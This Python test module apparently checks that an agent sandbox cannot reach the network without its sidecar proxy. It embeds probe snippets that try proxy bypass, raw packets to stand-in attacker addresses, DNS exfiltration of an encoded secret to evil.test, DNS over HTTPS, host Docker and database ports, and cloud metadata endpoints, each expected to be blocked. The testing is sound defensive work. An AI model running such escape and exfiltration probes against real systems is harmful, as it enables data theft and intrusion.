"""A1-A7: out of the bottle without the sidecar."""

from __future__ import annotations

import itertools
from typing import TYPE_CHECKING, Any

from bot_bottle.verify import inside
from bot_bottle.verify.case import (
    CONTROL,
    Case,
    Finding,
    Run,
    broken,
    held,
    new_mark,
    not_run,
    requests,
    through,
)
from bot_bottle.verify.stage import ALLOWED, FORBIDDEN

if TYPE_CHECKING:
    from bot_bottle.verify.stage import Stage

#: Where bottles find their sidecar that have no network card.
_LOOPBACK = "127.0.0.1"
_numbers = itertools.count(2)


def _new_address(version: int) -> str:
    number = next(_numbers)
    return f"45.33.2.{number}" if version == 4 else f"2606:4700:dead::{number:x}"


def _control(stage: Stage) -> Finding:
    """What is allowed arrives, both ways: in a bottle without a network attacks prove nothing."""
    mark = new_mark("control")
    code = "tell(**{way: request(host, f'/{mark}-{way}', way=way).split(' ')[1] for way in WAYS})"
    told = inside.run(stage.bottle, code, host=ALLOWED, mark=mark)
    count = len(stage.outside.arrived(mark))
    if told != {"proxy": "200", "straight": "200"} or count != 2:
        return broken(f"{count} of 2 allowed requests arrived: {told}")
    return held("an allowed host is reached through the proxy and without it")


_UNAWARE = """
for way in WAYS:
    told["https " + way] = reason(attempt(request, host, f"/{mark}", way=way))
    told["http " + way] = reason(attempt(plain, host, f"/{mark}", way=way))
"""

_PROTOCOLS = {
    "tcp-443": "s = socket.create_connection((address, 443)); s.sendall(b'data')",
    "tcp-22": "s = socket.create_connection((address, 22)); s.sendall(b'SSH-2.0-data\\r\\n')",
    "udp-443": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'data', (address, 443))",
    "udp-53": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'data', (address, 53))",
    "udp-9999": "s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b'data', (address, 9999))",
    "icmp": "s = socket.socket(family, socket.SOCK_RAW, icmp); s.sendto(b'\\x08\\0\\0\\0data', (address, 0))",
    "raw-ip": "s = socket.socket(family, socket.SOCK_RAW, 253); s.sendto(b'data', (address, 0))",
    "sctp": "s = socket.socket(family, socket.SOCK_STREAM, 132); s.connect((address, 443))",
}


def _raw(version: int) -> Run:
    family, icmp = ("AF_INET", 1) if version == 4 else ("AF_INET6", 58)

    def run(stage: Stage) -> Finding:
        addresses = {name: _new_address(version) for name in _PROTOCOLS}
        tries = "".join(
            f"address = {addresses[name]!r}\ntry:\n    {code}\n    told[{name!r}] = 'sent'\n"
            f"except OSError as error:\n    told[{name!r}] = error.strerror or str(error)\n"
            for name, code in _PROTOCOLS.items()
        )
        told = inside.run(
            stage.bottle, f"told = {{}}; family = socket.{family}; icmp = {icmp}\n{tries}tell(**told)"
        )
        left = [name for name, address in addresses.items() if stage.outside.packets_to(address)]
        if left:
            return broken(f"packets left: {', '.join(left)}")
        # A machine's card takes what leads nowhere behind it; where packets can be seen, none is proof.
        sent = [name for name, end in told.items() if end == "sent"]
        if sent and not stage.outside.whole:
            return broken(f"the kernel took: {', '.join(sent)}")
        return held(f"{len(told)} protocols, no packet: {', '.join(sorted(set(told.values())))}")

    return run


def _outside_control(stage: Stage) -> Finding:
    """The same packets sent beside the bottle are seen, or the search for them proves nothing."""
    if not stage.outside.whole:
        return not_run("the sinkhole has some of the addresses only")
    import socket  # noqa: PLC0415 - here alone

    for version, family in ((4, socket.AF_INET), (6, socket.AF_INET6)):
        address = _new_address(version)
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"control", (address, 9999))
        if not stage.outside.packets_to(address):
            return broken(f"a packet to {address} from outside the bottle was not seen")
    return held("packets sent outside the bottle are seen, of IPv4 and IPv6")


def _interfaces(stage: Stage) -> Finding:
    code = "tell(names=[name for _, name in socket.if_nameindex()], v4=open('/proc/net/route').read())"
    told = inside.run(stage.bottle, code)
    if told["names"] != ["lo"] and stage.backend.sidecar_address == _LOOPBACK:
        return broken(f"there are interfaces: {', '.join(told['names'])}")
    routes = len(told["v4"].splitlines()) - 1
    if stage.backend.sidecar_address == _LOOPBACK and routes > 0:
        return broken(f"there are {routes} routes")
    return held(f"interfaces: {', '.join(told['names'])}; IPv4 routes: {max(routes, 0)}")


_QUERY = """
def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", kind, 1)

def udp(server, name, kind):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(query(name, kind), (server, 53))
        return sock.recv(4096)

def tcp(server, name, kind):
    with socket.create_connection((server, 53), timeout=1) as sock:
        data = query(name, kind)
        sock.sendall(struct.pack("!H", len(data)) + data)
        return sock.recv(4096)[2:]
"""

_OTHER_RESOLVERS = (
    _QUERY
    + """
for server in ("8.8.8.8", "1.1.1.1", "9.9.9.9"):
    for transport in (udp, tcp):
        answer = attempt(transport, server, f"{mark}.evil.test", 1)
        if not isinstance(answer, str):
            answer = "ANSWERED" if struct.unpack_from("!H", answer, 6)[0] else NAMELESS
        told[f"{transport.__name__} {server}"] = answer
"""
)
#: An answer without a record in it.
_NAMELESS = "there is no such name"

_OWN_RESOLVER = (
    _QUERY
    + """
for parent in ("evil.test", "wild.test", "allowed.test"):
    for transport in (udp, tcp):
        for kind in (1, 28, 16, 15, 10, 5, 33, 255):
            answer = attempt(transport, SIDECAR, f"c2VjcmV0.{mark}.{parent}", kind)
            count = -1 if isinstance(answer, str) else struct.unpack_from("!H", answer, 6)[0]
            data = b"" if isinstance(answer, str) else answer
            own = count == 0 or data.endswith((bytes([127, 0, 0, 1]), bytes(15) + b"\\x01"))
            end = "own address or none" if own else answer if count < 0 else "FOREIGN"
            told[f"{transport.__name__} {parent} {kind}"] = end
"""
)


def _answered(stage: Stage, told: dict[str, Any]) -> str:
    """Say who was answered; behind a machine's card its engine says of every name that there is none."""
    own = {_NAMELESS} if stage.backend.sidecar_address != _LOOPBACK else set()
    ends = [f"{name}: {end}" for name, end in told.items() if end in {"ANSWERED", _NAMELESS} - own]
    return ends[0] if ends else ""


_DENIED_NAMES = """
for name, port in ((f"{mark}.evil.test", 443), (f"{mark}.deep.wild.test", 8443), (f"{mark}.api.test", 443)):
    def look_up():
        sock, answer = connect(f"{name}:{port}")
        return request(name, "/") if b" 200 " in answer else rest(sock, answer)
    told[f"{name.partition('.')[2]}:{port}"] = reason(attempt(look_up))
"""

_DOH = """
for host in ("dns.google", "1.1.1.1", "cloudflare-dns.com"):
    for way in WAYS:
        told[f"{host} {way}"] = reason(attempt(request, host, f"/dns-query?dns={mark}", way=way))
for host in ("1.1.1.1", host_allowed):
    sock, answer = connect(f"{host}:853")
    told[f"{host}:853"] = reason(answer.decode("latin-1") if b" 200 " in answer else rest(sock, answer))
"""

_HOST_SERVICES = """
told["the sinkhole itself"] = "OPEN"
try:
    with socket.create_connection(door, timeout=1) as sock:
        sock.sendall(mark.encode() + b"\\r\\n\\r\\n")
except OSError as error:
    told["the sinkhole itself"] = error.strerror or str(error)
for address in ("127.0.0.1", "172.17.0.1", "10.0.2.2", "192.168.65.2", "host.docker.internal",
                "gateway.docker.internal", "host.smolvm.internal", "host.containers.internal"):
    for port in (22, 2375, 5432, 6379, 8080):
        try:
            with socket.create_connection((address, port), timeout=0.5) as sock:
                sock.sendall(mark.encode())
                told[f"{address}:{port}"] = "OPEN"
        except OSError as error:
            told[f"{address}:{port}"] = error.strerror or str(error)
    told[f"proxy {address}"] = reason(attempt(plain, address, f"/{mark}"))
"""

_METADATA = """
for host in ("169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "metadata.google.internal"):
    for way in WAYS:
        told[f"{host} {way}"] = reason(attempt(plain, host, f"/latest/{mark}", way=way))
"""

_REFUSED = ("host_not_allowed", "port_not_allowed")

CASES = (
    Case(id=CONTROL, title="what is allowed gets out", expected="arrives, both ways", run=_control),
    Case(id=CONTROL, title="packets outside are seen", expected="seen", run=_outside_control),
    Case(
        id="A1",
        title="proxy variables ignored, unset or overridden",
        expected="refused like any request",
        run=requests(_UNAWARE, reasons=("host_not_allowed",), host=FORBIDDEN),
    ),
    Case(
        id="A2",
        title="an address of the attacker under an allowed name",
        expected="the address is never dialled",
        run=requests(
            "for address in ('45.33.9.9', '[2606:4700::9]'):\n"
            "    told[address] = reason(attempt(request, address, f'/{mark}', sni=host, named=host))",
            reasons=("host_not_allowed", "names_disagree", "bad_authority"),
            host=ALLOWED,
        ),
    ),
    Case(
        id="A3",
        title="TCP, UDP, QUIC, ICMP, raw IP, SCTP to an IPv4 address",
        expected="no packet leaves",
        run=_raw(4),
    ),
    Case(id="A4", title="the same over IPv6", expected="no packet leaves", run=_raw(6)),
    Case(
        id="A4",
        title="interfaces and routes",
        expected="loopback, or the one way to the sidecar",
        run=_interfaces,
    ),
    Case(
        id="A5",
        title="DNS: other resolvers by UDP and TCP",
        expected="no question leaves",
        run=requests(_OTHER_RESOLVERS, wrong=_answered, NAMELESS=_NAMELESS),
    ),
    Case(
        id="A5",
        title="DNS: secrets in labels, all types, asked of the bottle's own resolver",
        expected="answered by itself, never forwarded",
        run=requests(_OWN_RESOLVER, wrong=through),
    ),
    Case(
        id="A5",
        title="DNS: the proxy's own look-up of a denied name",
        expected="judged before it is looked up",
        run=requests(_DENIED_NAMES, reasons=_REFUSED),
    ),
    Case(
        id="A5",
        title="DNS over HTTPS and over TLS",
        expected="refused",
        run=requests(_DOH, reasons=_REFUSED, host_allowed=ALLOWED),
    ),
    Case(
        id="A6",
        title="services of the host, gateways, the host's special names",
        expected="not there, or refused",
        run=requests(_HOST_SERVICES, wrong=through),
    ),
    Case(
        id="A7",
        title="metadata services by address and name",
        expected="refused",
        run=requests(_METADATA, reasons=("host_not_allowed", "metadata_denied")),
    ),
)
